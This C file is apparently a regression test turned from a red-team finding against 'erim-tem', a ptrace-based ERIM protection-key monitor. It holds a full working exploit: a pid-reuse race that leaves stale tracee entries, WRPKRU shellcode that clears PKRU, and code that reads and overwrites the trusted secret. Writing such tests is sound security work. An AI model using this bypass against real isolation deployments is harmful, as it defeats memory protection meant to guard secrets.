/* SPDX-License-Identifier: MIT */
/* tem_dead_first.c: a fork child of a registered process must never run
 * its first system calls under the rules of a dead, unregistered image
 * through a table entry erim-tem made for a child that was already dead
 * (red team 38's tem_dead_first, made a test: tem_main.c adopt adopts only
 * its own live tracees, dead_before_adopted marks the creator's event).
 * What it did:
 *
 * Stage 1 (the stale entry).  M, an image R exec'd after its registration
 * (unregistered: erim-tem skips its own-memory rows, tem_judge.c), ignores
 * SIGCHLD and makes children X with clone(CLONE_FILES|CLONE_PARENT_SETTID);
 * its thread K SIGKILLs each X the moment the kernel wrote X's TID, while M
 * still sits in its PTRACE_EVENT_FORK stop.  erim-tem's waitpid looks at its
 * newest tracee first, so X's death can come before M's fork event: the
 * death drops X's entry, erim-tem's wait releases X (autoreap), and then
 * adopt() (tem/tem_main.c) makes a new entry for X with a copy of M's
 * tem_proc (registered 0, exec_after_reg set) that nothing will ever report
 * on again.  attached is 0: adopt only moves a held first stop (2) to 1.
 *
 * Stage 2.  R (registered, a page keyed with its protection key, PKRU
 * denying it) forks a child C at pid X.  C's first stop reaches erim-tem
 * before R's fork event (C is the newest tracee).  The new first-stop check
 * in trace() looks only at entries with attached == 1, so it does not see
 * the stale one; dispatch() finds ->proc set, resumes C, and judges its
 * calls as M's until R's fork event is handled (R's own threads B keep
 * erim-tem busy with judged calls meanwhile: they are newer tracees than R's
 * main thread, so waitpid finds their stops first).  C's first call,
 * mprotect(RWX) of a page holding WRPKRU, is allowed (an own-memory row
 * skipped); C runs WRPKRU(0) and reads and writes the trusted page.
 *
 *   tem_dead_first driver ERIM-TEM [uid]
 * Control: the same child of R at another pid (B busy as well): refused;
 * a plain read of the trusted page by R's child: stopped.  The attack is
 * tried at the pids erim-tem adopted after their death (its log) or, when
 * there are none (fixed), at up to 8 of the killed children's pids.  Exit 0
 * when no attack child was judged as M and the controls hold, 1 when one
 * was, 99 when the setup failed. */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tem_reg.h"
#include "tem_stale.h"
#ifdef WITH_LIBERIM
#include "erim.h"
static ERIM_TRUSTED char trusted_secret[64] = "LIBERIM-TRUSTED-GLOBAL-secret-38";
#endif

static char self[512];
static int out_fd;
static int pkey_g;
static volatile int busy_on;

/* ---- stage 1: M, the exec'd image ---- */
static volatile pid_t ptid;
static volatile int armed, done;

static void *thread_k(void *arg)
{
	(void)arg;
	for (;;) {
		pid_t x;

		int a;

		while ((a = __atomic_load_n(&armed, __ATOMIC_ACQUIRE)) == 0)
			;
		if (a == 2)
			return NULL;   /* stage 1 is over: no CPU spun from now on */
		while ((x = __atomic_load_n(&ptid, __ATOMIC_ACQUIRE)) == 0)
			;
		syscall(SYS_kill, x, SIGKILL);
		__atomic_store_n(&armed, 0, __ATOMIC_RELEASE);
		__atomic_store_n(&done, 1, __ATOMIC_RELEASE);
	}
	return NULL;
}

/* judged calls that hold no one (mprotect RW of a page of our own) */
static void *thread_b(void *arg)
{
	static char pg[2][4096] __attribute__((aligned(4096)));
	char *p = pg[(long)arg & 1];

	for (;;) {
		if (!busy_on) {
			usleep(1000);
			continue;
		}
		mprotect(p, 4096, PROT_READ | PROT_WRITE);
	}
	return NULL;
}

static int maker(int n)
{
	pthread_t th;
	pid_t me = getpid();

	signal(SIGCHLD, SIG_IGN);
	if (write(out_fd, &me, sizeof me) != (ssize_t)sizeof me)
		return 9;
	busy_on = 1;
	if (pthread_create(&th, NULL, thread_b, (void *)0L) != 0 || pthread_create(&th, NULL, thread_k, NULL) != 0)
		return 9;
	for (int i = 0; i < n; i++) {
		pid_t x;

		__atomic_store_n(&ptid, 0, __ATOMIC_RELEASE);
		__atomic_store_n(&done, 0, __ATOMIC_RELEASE);
		__atomic_store_n(&armed, 1, __ATOMIC_RELEASE);
		x = (pid_t)syscall(SYS_clone, CLONE_FILES | CLONE_PARENT_SETTID | SIGCHLD, 0, &ptid, 0, 0);
		if (x == 0) {
			for (;;)
				pause();
		}
		if (x < 0)
			return 9;
		while (!__atomic_load_n(&done, __ATOMIC_ACQUIRE))
			;
		if (write(out_fd, &x, sizeof x) != (ssize_t)sizeof x)
			return 9;
		usleep(2000);
	}
	busy_on = 0;
	__atomic_store_n(&armed, 2, __ATOMIC_RELEASE);
	{
		pid_t z = 0;

		if (write(out_fd, &z, sizeof z) != (ssize_t)sizeof z)
			return 9;
	}
	for (;;)
		pause();
}

/* ---- stage 2: R's fork child ---- */
static void say(const char *s)
{
	if (write(1, s, strlen(s)) < 0)
		_exit(9);
}

static int child_attempt(char *secret, unsigned char *x, const char *what)
{
	char line[256], got[40];
	int r, e;

	/* the first system call: no libc wrapper that could make another */
	r = (int)syscall(SYS_mprotect, x, 4096, PROT_READ | PROT_WRITE | PROT_EXEC);
	e = errno;
	snprintf(line, sizeof line, "  [%s child pid %d] mprotect(own page holding WRPKRU, RWX): %s\n", what,
	         (int)getpid(), r == 0 ? "ALLOWED" : strerror(e));
	say(line);
	if (r != 0)
		return 1;
	if (pkey_g < 0) {
		say("  (no PKU: the WRPKRU page is not run)\n");
		return 0;
	}
	((void (*)(void))x)();
	memcpy(got, secret, sizeof got - 1);
	got[sizeof got - 1] = 0;
	snprintf(line, sizeof line, "  [%s child pid %d] EXECUTED WRPKRU (PKRU=0); READ trusted memory: \"%s\"\n", what,
	         (int)getpid(), got);
	say(line);
	memcpy(secret, "OVERWRITTEN-by-untrusted", 25);
	snprintf(line, sizeof line, "  [%s child pid %d] WROTE trusted memory: \"%s\"\n", what, (int)getpid(), secret);
	say(line);
	return 0;
}

static int prog(int cmd_fd)
{
	long r;
	pid_t m;
	char c;
	pthread_t th;
	unsigned char *x;
	/* xor ecx,ecx ; xor edx,edx ; xor eax,eax ; wrpkru ; ret */
	static const unsigned char code[] = { 0x31, 0xc9, 0x31, 0xd2, 0x31, 0xc0, 0x0f, 0x01, 0xef, 0xc3 };
#ifdef WITH_LIBERIM
	char *secret = trusted_secret;

	r = erim_init(NULL);
	fprintf(stderr, "R: pid %d erim_init: %ld %s; trusted global at %p\n", (int)getpid(), r, r ? erim_strerror() : "",
	        (void *)secret);
	if (r != 0)
		return 77;
	pkey_g = erim_pkey();
#else
	char *secret = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	strcpy(secret, "TOPSECRET-38-trusted-page");
	pkey_g = pkey_alloc(0, 0);
	if (pkey_g < 1 || pkey_mprotect(secret, 4096, PROT_READ | PROT_WRITE, pkey_g) != 0) {
		fprintf(stderr, "R: no protection keys here (%s)\n", strerror(errno));
		pkey_g = -1;
		mprotect(secret, 4096, PROT_NONE);
	} else {
		pkey_set(pkey_g, PKEY_DISABLE_ACCESS);
	}
	r = tem_reg(pkey_g, secret, 4096);
	fprintf(stderr, "R: pid %d registered, trusted page %p: %ld\n", (int)getpid(), (void *)secret, r);
#endif
	x = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (x == MAP_FAILED)
		return 9;
	memcpy(x, code, sizeof code);
	m = fork();
	if (m == 0) {
		char b[16];

		snprintf(b, sizeof b, "%d", out_fd);
		execl(self, self, "maker", b, (char *)NULL);
		_exit(127);
	}
	for (long i = 0; i < 3; i++)
		if (pthread_create(&th, NULL, thread_b, (void *)i) != 0)
			return 9;
	while (read(cmd_fd, &c, 1) == 1) {
		pid_t k, want = 0;
		int st;

		if (c == 'q')
			break;
		if (c == 'a' && read(cmd_fd, &want, sizeof want) != (ssize_t)sizeof want)
			break;
		busy_on = 1;
		usleep(20000);
		k = (pid_t)syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);   /* raw: no set_robust_list in the child */
		if (k == 0) {
			if (c == 'a' && getpid() != want)
				_exit(42);   /* another process took X first */
			if (c == 'p') {   /* control: the key works, a plain read faults */
				volatile char v = secret[0];

				(void)v;
				say("  [plain-read child] read the trusted page without WRPKRU: not stopped\n");
				_exit(0);
			}
			_exit(child_attempt(secret, x, c == 'a' ? "attack" : "control"));
		}
		waitpid(k, &st, 0);
		busy_on = 0;
		c = WIFEXITED(st) && WEXITSTATUS(st) == 42 ? 2 : WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 1 : 3;
		if (write(out_fd, &c, 1) != 1)
			break;
	}
	return 0;
}

/* ---- the driver ---- */
static int run(const char *tem, int uid)
{
	int cmd[2], out[2], st, nx = 0, ns = 0, won = 0;
	pid_t tem_pid, mk = 0, x, xs[4096], stale[4096];
	char c, logpath[64], line[1024], pat[64];
	FILE *lf;

	snprintf(logpath, sizeof logpath, "/tmp/tem_dead_first/logf_%d", (int)getpid());
	if (pipe(cmd) || pipe(out))
		return 99;
	tem_pid = fork();
	if (tem_pid == 0) {
		char b[16], d[16];
		int lfd = open(logpath, O_WRONLY | O_CREAT | O_TRUNC, 0666);

		if (lfd >= 0) {
			dup2(lfd, 2);
			close(lfd);
		}
		snprintf(b, sizeof b, "%d", out[1]);
		snprintf(d, sizeof d, "%d", cmd[0]);
		execl(tem, tem, "-l", self, "prog", b, d, (char *)NULL);
		_exit(127);
	}
	close(out[1]);
	close(cmd[0]);
	if (read(out[0], &mk, sizeof mk) != (ssize_t)sizeof mk) {
		printf("  the program did not start\n");
		return 99;
	}
	while (read(out[0], &x, sizeof x) == (ssize_t)sizeof x && x != 0 && nx < 4096)
		xs[nx++] = x;
	usleep(300000);
	if ((lf = fopen(logpath, "r")) != NULL) {
		while (fgets(line, sizeof line, lf)) {
			if (!strstr(line, "kcmp("))
				continue;   /* the log is long (every judged call of B) */
			for (int i = 0; i < nx && ns < 4096; i++) {
				snprintf(pat, sizeof pat, "kcmp(%d, %d, 1)", (int)mk, (int)xs[i]);
				if (strstr(line, pat)) {
					if (!ns)
						printf("    %s", line);
					stale[ns++] = xs[i];
				}
			}
		}
		fclose(lf);
	}
	printf("  stage 1: M %d (exec'd after R's registration) made %d children, each killed before its fork "
	       "event; erim-tem adopted %d of them after their death (stale entries)\n", (int)mk, nx, ns);
	/* controls: a plain read of the trusted page; the attack at another pid */
	if (write(cmd[1], "p", 1) != 1 || read(out[0], &c, 1) != 1)
		return 99;
	printf("  control, plain read of the trusted page by R's child: %s\n",
	       c == 1 ? "NOT stopped (no key?)" : "stopped (the child died), as it should be");
	if (c == 1)
		won = 1;   /* a control that does not hold fails the test too */
	if (write(cmd[1], "c", 1) != 1 || read(out[0], &c, 1) != 1)
		return 99;
	printf("  control child: %s\n", c == 1 ? "ATTACK WORKED (control broken)" : "refused, as it should be");
	if (c == 1)
		won = 1;
	if (ns == 0) {   /* no stale entry (fixed): try the killed children's pids anyway */
		for (int i = 0; i < nx && ns < 8; i++)
			stale[ns++] = xs[i * (nx / 8 > 0 ? nx / 8 : 1) % nx];
	}
	for (int i = 0; i < ns && !won; i++) {
		x = stale[i];
		if (stale_next_pid(x) != 0) {
			printf("  cannot make %d the next pid\n", (int)x);
			continue;
		}
		if (write(cmd[1], "a", 1) != 1 || write(cmd[1], &x, sizeof x) != (ssize_t)sizeof x ||
		    read(out[0], &c, 1) != 1)
			return 99;
		printf("  attack at stale pid %d: %s\n", (int)x,
		       c == 1 ? "WON" : c == 2 ? "the pid was taken by another process" :
		       "refused (R's fork event came first: the entry was dropped)");
		won = c == 1;
		if (uid && i >= 2)
			break;   /* cycling the pid space is slow */
	}
	if (write(cmd[1], "q", 1) != 1)
		return 99;
	kill(tem_pid, SIGTERM);
	usleep(300000);
	kill(tem_pid, SIGKILL);
	waitpid(tem_pid, &st, 0);
	if ((lf = fopen(logpath, "r")) != NULL) {
		printf("  erim-tem's log lines on the children's mprotect(RWX):\n");
		while (fgets(line, sizeof line, lf))
			if (strstr(line, "mprotect") && strstr(line, "RWX"))
				printf("    %s", line);
		fclose(lf);
	}
	if (!getenv("KEEP"))
		unlink(logpath);
	return won ? 1 : 0;
}

int main(int argc, char **argv)
{
	if (tem_self_exe(self, sizeof self) != 0)
		return 99;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "maker") == 0) {
		out_fd = atoi(argv[2]);
		return maker(getenv("TEM_DEAD_N") ? atoi(getenv("TEM_DEAD_N")) : 60);
	}
	if (argc == 4 && strcmp(argv[1], "prog") == 0) {
		/* R is a grandchild of erim-tem: only on its ptraced list, where
		 * newer tracees (B, C) are looked at first; a direct child is
		 * found first by waitpid */
		pid_t r = fork();

		out_fd = atoi(argv[2]);
		if (r == 0)
			_exit(prog(atoi(argv[3])));
		waitpid(r, NULL, 0);
		return 0;
	}
	if (argc >= 3 && strcmp(argv[1], "driver") == 0) {
		int uid = argc >= 4 ? atoi(argv[3]) : 0, r;

		stale_dir("/tmp/tem_dead_first");
		if (stale_become(uid) != 0)
			return 99;
		printf("tem_dead_first%s: program as uid %d\n",
#ifdef WITH_LIBERIM
		       " (liberim)",
#else
		       "",
#endif
		       (int)getuid());
		r = run(argv[2], uid);
		printf("tem_dead_first: %s\n", r == 1 ? "FAILED: R's child judged as M (see its lines above)" :
		       r == 0 ? "no child of R judged as M" : "setup failed");
		return r == 1 ? 1 : r == 0 ? 0 : 99;
	}
	fprintf(stderr, "usage: %s driver ERIM-TEM [uid]\n", argv[0]);
	return 2;
}
